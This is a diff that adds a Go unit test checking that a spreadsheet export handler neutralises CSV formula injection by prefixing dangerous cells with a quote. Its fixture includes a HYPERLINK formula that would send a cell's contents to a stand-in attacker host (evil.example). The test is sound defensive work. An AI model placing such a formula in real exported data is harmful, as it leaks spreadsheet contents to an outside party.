@@ -0,0 +1,42 @@
+package handlers
+
+import (
+	"encoding/csv"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/labstack/echo/v4"
+)
+
+func TestWriteSpreadsheetEscapesFormulas(t *testing.T) {
+	e := echo.New()
+	rec := httptest.NewRecorder()
+	c := e.NewContext(httptest.NewRequest(http.MethodGet, "/", nil), rec)
+
+	motivation := `=HYPERLINK("https://evil.example/?leak="&A2,"Click me")`
+	rows := [][]string{{"Alex Doe", motivation, "+1 555", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "plain", ""}}
+	if err := writeSpreadsheet(c, "csv", "test", "Test", []string{"Name", "Motivation", "A", "B", "C", "D", "E", "F", "G"}, rows); err != nil {
+		t.Fatalf("writeSpreadsheet: %v", err)
+	}
+
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\xEF\xBB\xBF"))).ReadAll()
+	if err != nil {
+		t.Fatalf("reading CSV: %v", err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("got %d records, want 2", len(records))
+	}
+
+	want := []string{"Alex Doe", "'" + motivation, "'+1 555", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\rcmd", "plain", ""}
+	for i, cell := range records[1] {
+		// encoding/csv turns a quoted \r into \n on read
+		if i == 6 {
+			cell = strings.Replace(cell, "\n", "\r", 1)
+		}
+		if cell != want[i] {
+			t.Errorf("cell %d = %q, want %q", i, cell, want[i])
+		}
+	}
+}